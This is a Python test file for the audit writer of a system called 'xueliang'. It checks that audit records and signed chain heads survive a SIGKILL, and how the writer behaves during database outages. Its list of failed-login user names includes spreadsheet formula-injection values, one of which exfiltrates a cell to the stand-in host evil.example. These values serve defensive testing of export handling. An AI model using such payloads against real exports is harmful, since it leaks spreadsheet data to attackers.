"""The audit writer never holds a record in memory longer than about a second (issue 10, item 4):
a real `xueliang serve` is killed with SIGKILL one second after audited actions, and every
record is in the database, with the chain intact and its head signed outside the database."""

from __future__ import annotations

import asyncio
import os
import signal
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import httpx
import pytest
from sqlalchemy import select
from sqlalchemy.exc import DataError, InterfaceError, InternalError, OperationalError

from tests.ports import free_port as _free_port
from tests.waiting import until
from xueliang.access.audit import AuditLog, CheckpointKey, verify
from xueliang.db.engine import create_engine, session_factory
from xueliang.db.tables import AuditRecord

KEY_HEX = "5e" * 32
#: Attacker-chosen user names of failed logins (they reach the audit, and its exports).
NAMES = ["nobody", "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+1+1", "@SUM(1)", "-2+3"]


def _src_dir() -> str:
    import xueliang

    return str(Path(xueliang.__file__).resolve().parents[1])


@pytest.fixture
def served(db_url: str, tmp_path: Path):  # type: ignore[no-untyped-def]
    """A real server process on the test database, its keys and signed heads outside var/."""
    port = _free_port()
    secrets = tmp_path / "secrets"  # stands for a directory outside the data directory
    env = {
        **os.environ,
        "PYTHONPATH": _src_dir(),
        "XUELIANG_DATABASE__URL": db_url,
        "XUELIANG_STORAGE__VAR_DIR": str(tmp_path / "var"),
        "XUELIANG_API__PORT": str(port),
        "XUELIANG_SIP__ENABLED": "false",
        "XUELIANG_SIP__PASSWORD": "not-the-default-9f3a",
        "XUELIANG_MEDIA__ENABLED": "false",
        "XUELIANG_BOOTSTRAP_ADMIN": "root",
        "XUELIANG_BOOTSTRAP_PASSWORD": "correct horse battery",
        "XUELIANG_ACCESS__TOTP_REQUIRED_ROLES": "[]",
        "XUELIANG_ACCESS__LOGIN_BURST": "1000",
        "XUELIANG_AUDIT_KEY": KEY_HEX,
        "XUELIANG_LOG_LEVEL": "info",
    }
    from xueliang.config import AccessConfig

    if "audit_heads_file" in AccessConfig.model_fields:  # (not in the code before issue 10)
        env["XUELIANG_ACCESS__AUDIT_HEADS_FILE"] = str(secrets / "audit-heads.jsonl")
    with open(tmp_path / "serve.log", "wb") as log_file:
        proc = subprocess.Popen(
            [sys.executable, "-m", "xueliang.cli", "serve"], cwd=tmp_path, env=env,
            stdout=subprocess.DEVNULL, stderr=log_file,
        )
    base = f"http://127.0.0.1:{port}"
    deadline = time.monotonic() + 90
    while True:
        try:
            if httpx.get(base + "/healthz", timeout=2).status_code == 200:
                break
        except httpx.HTTPError:
            pass
        if proc.poll() is not None or time.monotonic() > deadline:
            proc.kill()
            raise AssertionError(f"server did not start (exit {proc.poll()}):\n" + (tmp_path / "serve.log").read_text()[-3000:])
        time.sleep(0.2)
    yield proc, base, tmp_path
    if proc.poll() is None:
        proc.kill()
    proc.wait()


def _heads_file(tmp_path: Path) -> Path:
    """Where the signed heads went: the configured file, or var/ when the setting is unknown
    (the original code, which has no such setting)."""
    configured = tmp_path / "secrets" / "audit-heads.jsonl"
    return configured if configured.exists() else tmp_path / "var" / "audit" / "checkpoints.jsonl"


async def test_sigkill_one_second_after_the_actions_loses_no_record(served, db_url: str) -> None:  # type: ignore[no-untyped-def]
    proc, base, tmp_path = served
    async with httpx.AsyncClient(base_url=base, timeout=30) as c:
        # Wait until start-up's own records (if any) are behind us, so the 1 s below is the
        # writer's bound, not start-up's.
        await asyncio.sleep(0.5)
        for name in NAMES:
            r = await c.post("/api/v1/auth/login", json={"username": name, "password": "wrong"})
            assert r.status_code == 401
        r = await c.post("/api/v1/auth/login", json={"username": "root", "password": "correct horse battery"})
        assert r.status_code == 200, r.text
        auth = {"Authorization": f"Bearer {r.json()['access_token']}"}
        # Sensitive reads: the registry exports and the audit itself.
        assert (await c.get("/api/v1/survey/export", headers=auth)).status_code == 200
        assert (await c.get("/api/v1/channels.xlsx", headers=auth)).status_code == 200
        assert (await c.get("/api/v1/audit/records", headers=auth)).status_code == 200
        assert (await c.get("/api/v1/channels", headers={"Authorization": "Bearer forged"})).status_code == 401
    await asyncio.sleep(1.0)
    proc.send_signal(signal.SIGKILL)
    proc.wait()

    engine = create_engine(db_url)
    sessions = session_factory(engine)
    try:
        async with sessions() as s:
            rows = (await s.execute(select(AuditRecord.action, AuditRecord.outcome, AuditRecord.actor,
                                           AuditRecord.detail).order_by(AuditRecord.seq))).all()
        got = [(a, o, who) for a, o, who, _d in rows]
        for name in NAMES:
            assert ("auth.login", "failed", name) in got, got
        assert ("auth.login", "ok", "root") in got, got
        paths = " ".join(str(d) for *_x, d in rows)
        for p in ("/survey/export", "/channels.xlsx", "/audit/records"):
            assert p in paths, (p, got)
        assert any(o in ("denied", "failed") and '"/api/v1/channels"' in str(d) for _a, o, _w, d in rows), rows
        key = CheckpointKey(bytes.fromhex(KEY_HEX))
        heads = _heads_file(tmp_path)
        rep = await verify(sessions, key, heads)
        assert rep.ok, rep.text()
        assert rep.records == len(rows)
        # The head was signed outside the database at the last flush, before the kill.
        from xueliang.access.audit import read_signed_file

        outside = read_signed_file(heads, key)
        assert outside.head is not None and outside.head[1] == rep.head_seq, (outside.head, rep.head_seq)
    finally:
        await engine.dispose()


async def test_writer_writes_within_a_second_on_its_own(db_url: str, tmp_path: Path) -> None:
    """No flush() call, default timings: an appended record is in the database (seen from
    another connection) and its head signed outside it within a second."""
    engine = create_engine(db_url)
    sessions = session_factory(engine)
    key = CheckpointKey(b"q" * 32)
    log = AuditLog(sessions, key, checkpoint_file=tmp_path / "heads.jsonl")
    try:
        await log.start()
        await asyncio.sleep(0.3)  # the writer is idle, waiting
        for i in range(3):
            log.append("auth.login", "failed", actor=f"guess{i}")
            await asyncio.sleep(0.1)
        await asyncio.sleep(1.0)
        other = create_engine(db_url)
        try:
            async with session_factory(other)() as s:
                actors = list((await s.scalars(select(AuditRecord.actor).order_by(AuditRecord.seq))).all())
        finally:
            await other.dispose()
        assert actors == ["guess0", "guess1", "guess2"]
        from xueliang.access.audit import read_signed_file

        outside = read_signed_file(tmp_path / "heads.jsonl", key)
        assert outside.head is not None and outside.head[1] == 3
        # Batching is kept: a burst goes in a few transactions of many records each.
        for i in range(12_000):
            log.append("media.live", "ok", actor="burst", resource_id=str(i))
        # the burst's time is the machine's (a loaded CI run took over a second): what is
        # asserted is how few transactions it took, below
        await until(lambda: log.written >= 12_003, timeout=20)
        assert log.written == 12_003
        heads = read_signed_file(tmp_path / "heads.jsonl", key)
        assert heads.head is not None and heads.head[1] == 12_003
        assert heads.heads <= 6, heads.heads  # one signed head per flush, not per record
    finally:
        await log.stop()
        await engine.dispose()


async def test_flush_returns_with_the_head_signed_outside(
    db_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A record counts as written only once its flush's head is signed outside the database:
    neither ``written`` nor flush() runs ahead of the signed head, even when the heads file is
    slow to write (a CI run once read the file in that gap)."""
    import xueliang.access.audit as audit_mod

    real_append = audit_mod._append_line

    def slow_append(path: Path, line: str) -> None:
        time.sleep(0.3)
        real_append(path, line)

    monkeypatch.setattr(audit_mod, "_append_line", slow_append)
    engine = create_engine(db_url)
    key = CheckpointKey(b"s" * 32)
    log = AuditLog(session_factory(engine), key, checkpoint_file=tmp_path / "heads.jsonl")
    try:
        await log.start()
        for batch, n in ((1, 1), (3, 4)):
            for i in range(batch):
                log.append("auth.login", "failed", actor=f"a{n}-{i}")
            # what a caller polling the count sees (the CI failure) and what flush() waits for
            await until(lambda n=n: log.written >= n, timeout=10)
            outside = audit_mod.read_signed_file(tmp_path / "heads.jsonl", key)
            assert outside.head is not None and outside.head[1] == n, (outside.head, n)
            await log.flush()
            outside = audit_mod.read_signed_file(tmp_path / "heads.jsonl", key)
            assert outside.head is not None and outside.head[1] == n, (outside.head, n)
    finally:
        await log.stop()
        await engine.dispose()


def _failing_inserts(sessions: Any, fail: Any) -> Any:
    """``sessions`` whose audit inserts raise ``fail(rows)`` when it gives an exception."""

    def make() -> Any:
        s = sessions()
        real = s.execute

        async def execute(stmt: Any, params: Any = None, *a: Any, **k: Any) -> Any:
            exc = fail(params) if isinstance(params, list) else None
            if exc is not None:
                raise exc
            return await real(stmt, params, *a, **k)

        s.execute = execute
        return s

    return make


OUTAGES = {
    "connection lost": lambda: OperationalError("INSERT", {}, ConnectionResetError("connection lost")),
    "interface": lambda: InterfaceError("INSERT", {}, Exception("connection is closed")),
    "refused at connect": lambda: ConnectionRefusedError(111, "Connect call failed"),
    # What asyncpg says while the primary is dead and the standby not yet promoted.
    "no primary yet": lambda: InternalError("INSERT", {}, Exception("None of the hosts match the target attribute requirement")),
}


@pytest.mark.parametrize("outage", sorted(OUTAGES))
async def test_a_lone_record_hit_by_an_outage_is_written_as_itself(db_url: str, outage: str) -> None:
    """A record alone in its batch whose insert fails because the database is out of reach (a
    failover) is written, itself, when the database is back: not replaced by a placeholder."""
    engine = create_engine(db_url)
    left = {"n": 2}

    def fail(rows: list[dict[str, Any]]) -> BaseException | None:
        if left["n"] > 0:
            left["n"] -= 1
            return OUTAGES[outage]()
        return None

    log = AuditLog(_failing_inserts(session_factory(engine), fail), None, flush_seconds=0.01)
    try:
        log.append("media.live", actor="duty", resource_type="channel", resource_id="c1")
        await log.flush(timeout=30)
        assert log.failures == 2
        async with session_factory(engine)() as s:
            rows = [(r.action, r.actor, r.resource_id) for r in (await s.scalars(select(AuditRecord))).all()]
        assert rows == [("media.live", "duty", "c1")]
        assert (await verify(session_factory(engine), None)).ok
    finally:
        await log.stop()
        await engine.dispose()


async def test_a_record_whose_data_the_database_refuses_leaves_a_placeholder(db_url: str) -> None:
    engine = create_engine(db_url)

    def fail(rows: list[dict[str, Any]]) -> BaseException | None:
        if rows[0]["action"] == "media.live":
            return DataError("INSERT", {}, Exception("value out of range"))
        return None

    log = AuditLog(_failing_inserts(session_factory(engine), fail), None, flush_seconds=0.01)
    try:
        log.append("media.live", actor="duty", resource_type="channel", resource_id="c1")
        log.append("auth.login", actor="duty")
        await log.flush(timeout=30)
        async with session_factory(engine)() as s:
            rows = [(r.action, r.detail) for r in (await s.scalars(select(AuditRecord).order_by(AuditRecord.seq))).all()]
        # Batched together: the batch is written record by record, the refused one's trace
        # takes its place, and the others are written as they are.
        assert [a for a, _ in rows] == ["audit.unwritable", "auth.login"]
        assert "media.live" in str(rows[0][1])
        assert (await verify(session_factory(engine), None)).ok
    finally:
        await log.stop()
        await engine.dispose()
